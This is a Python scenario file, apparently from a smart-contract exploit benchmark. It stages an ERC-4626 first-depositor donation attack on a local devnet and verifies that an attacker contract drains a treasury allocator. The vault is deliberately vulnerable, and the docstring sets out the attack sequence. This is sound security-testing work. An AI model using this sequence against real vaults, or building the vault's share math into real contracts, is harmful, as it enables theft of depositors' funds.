"""Scenario `vault-donation-inflation`: ERC-4626 share inflation by donation (first depositor).

YieldVault is an ERC-4626 vault over USDX whose `totalAssets()` is its raw USDX balance and whose
share math rounds down with no virtual shares. Alice and dave use it honestly and both exit in
full, so it is empty again. The protocol treasury then tops up its TreasuryAllocator, whose
permissionless keeper function `allocate()` deposits every idle USDX into the vault. Mallory's
InflationAttacker, in one transaction: deposits 1 base unit (1 share, the whole supply), transfers
as much USDX as the allocator holds straight to the vault (a donation: no Deposit, no shares),
calls `allocate()` - the treasury's 50,000 USDX now buy 50,000e6 * 1 / (50,000e6 + 1) = 0 shares -
and redeems its single share for everything the vault holds. The allocator loses all of it.
"""

from __future__ import annotations

from timemachine.catalog.devnet import actor_address
from timemachine.catalog.exploit import measure_exploit
from timemachine.catalog.models import ScenarioRecord
from timemachine.catalog.scenarios.base import declared
from timemachine.catalog.scenarios.contract import deploy
from timemachine.catalog.scenarios.markets import USD, markets
from timemachine.catalog.scenarios.world import World
from timemachine.errors import DevnetBuildError

ATTACKER = "mallory"
TREASURY = 50_000 * USD
"""What the treasury tops its allocator up with (and what it loses)."""
BOUGHT = 60_000 * USD
"""USDX mallory buys from the issuer before the attack."""
HONEST = {"alice": 12_000 * USD, "dave": 4_000 * USD}
EXPLOIT_GAS = 1_000_000


async def stage(world: World) -> ScenarioRecord:
    """Honest deposits and full exits, a treasury top-up, then the donation attack; verify it."""
    chain, a = world.chain, actor_address
    usdx = (await markets(world)).usdx
    vault = await deploy(chain, "deployer", "YieldVault", usdx.address, "Yield USDX", "yUSDX", 6)
    allocator = await deploy(chain, "deployer", "TreasuryAllocator", usdx.address, vault.address)
    await chain.mine()

    for user, amount in HONEST.items():
        await usdx.send(user, "approve", vault.address, amount)
        await vault.send(user, "deposit", amount, a(user))
    await chain.mine()
    alice_shares = await vault.call("balanceOf", a("alice"))
    await vault.send("alice", "redeem", alice_shares, a("alice"), a("alice"))
    await vault.send("dave", "withdraw", HONEST["dave"], a("dave"), a("dave"))
    await usdx.send("deployer", "transfer", allocator.address, TREASURY)
    await usdx.send("deployer", "mint", a(ATTACKER), BOUGHT)
    attacker = await deploy(chain, ATTACKER, "InflationAttacker")
    await chain.mine()
    await usdx.send(ATTACKER, "approve", attacker.address, 2**256 - 1)
    await chain.mine()

    state = (await vault.call("totalSupply"), await vault.call("totalAssets"))
    if state != (0, 0) or await usdx.call("balanceOf", allocator.address) != TREASURY:
        raise DevnetBuildError(f"vault not empty before the donation attack: {state}")
    outcome = await measure_exploit(
        chain,
        lambda: attacker.send(
            ATTACKER,
            "attack",
            vault.address,
            allocator.address,
            allocator.address,
            gas=EXPLOIT_GAS,
        ),
        attackers=[a(ATTACKER), attacker.address],
        victims=[allocator.address, vault.address],
        tokens=[usdx.address],
        expected_losses={usdx.address.lower(): TREASURY},
        what="ERC-4626 donation attack",
    )
    after = (
        await vault.call("balanceOf", allocator.address),
        await vault.call("totalSupply"),
        await vault.call("totalAssets"),
    )
    profit = {usdx.address.lower(): TREASURY, "ETH": -outcome.fee}
    if list(outcome.losses) != [allocator.address.lower()] or after != (0, 0, 0):
        raise DevnetBuildError(
            f"donation attack {outcome.tx}: losses {outcome.losses}, allocator shares / supply / "
            f"assets after {after}"
        )
    if outcome.profit != profit:
        raise DevnetBuildError(f"donation attack {outcome.tx}: attacker gained {outcome.profit}")
    return SCENARIO.exploited(
        outcome, attacker=a(ATTACKER), contracts=[attacker.address], victims=[allocator.address]
    )


SCENARIO = declared("vault-donation-inflation", stage)
